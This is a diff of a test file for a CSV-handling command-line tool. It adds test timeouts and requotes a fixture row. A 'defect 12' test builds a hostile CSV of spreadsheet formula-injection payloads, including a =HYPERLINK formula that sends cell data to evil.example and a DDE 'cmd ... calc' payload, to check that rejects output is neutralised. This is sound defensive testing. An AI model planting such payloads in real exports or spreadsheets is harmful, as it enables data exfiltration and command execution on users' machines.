@@ -126,7 +126,7 @@ describe('defect 1: a merge that could not be written is never reported or recor
 describe('defect 2: --rejects never overwrites the database, an input, a file or a link target', () => {
   const BAD = `${HEADER}\nAnn Lee,ann@example.com,,Germany,en\n`;
 
-  it('refuses --rejects on the database, on --recipients, on an existing file and on a symbolic link; each unchanged', () => {
+  it('refuses --rejects on the database, on --recipients, on an existing file and on a symbolic link; each unchanged', { timeout: 120_000 }, () => {
     const { dir, db, id } = setup();
     const csv = join(dir, 'bad.csv');
     writeFileSync(csv, BAD);
@@ -189,7 +189,7 @@ describe('defect 3: a database that is not a file is refused', () => {
 });
 
 describe('defect 4: one rule for every output file', () => {
-  it('letter and report refuse an existing file unless --force, and write 0600', () => {
+  it('letter and report refuse an existing file unless --force, and write 0600', { timeout: 60_000 }, () => {
     const { dir, db, id } = setup();
     const out = join(dir, 'notice.md');
     writeFileSync(out, 'an earlier notice\n');
@@ -212,7 +212,7 @@ describe('defect 4: one rule for every output file', () => {
     expect(temps(dir)).toEqual([]);
   });
 
-  it('never writes onto a FIFO, a directory, a symbolic link or the database, even with --force', () => {
+  it('never writes onto a FIFO, a directory, a symbolic link or the database, even with --force', { timeout: 60_000 }, () => {
     const { dir, db, id } = setup();
     const fifo = join(dir, 'pipe');
     expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
@@ -334,7 +334,7 @@ describe('defect 12: the rejects CSV cannot carry a formula or a control charact
     const { dir, db, id } = setup();
     const csv = join(dir, 'hostile.csv');
     const rows = [
-      '=HYPERLINK("http://evil.example/?x="&A1;"click"),a@example.com,,Nowhere,en',
+      '"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",a@example.com,,Nowhere,en',
       '+cmd|\' /C calc\'!A0,b@example.com,,Nowhere,en',
       '-2+3,c@example.com,,Nowhere,en',
       '@SUM(1+1),d@example.com,,Nowhere,en',
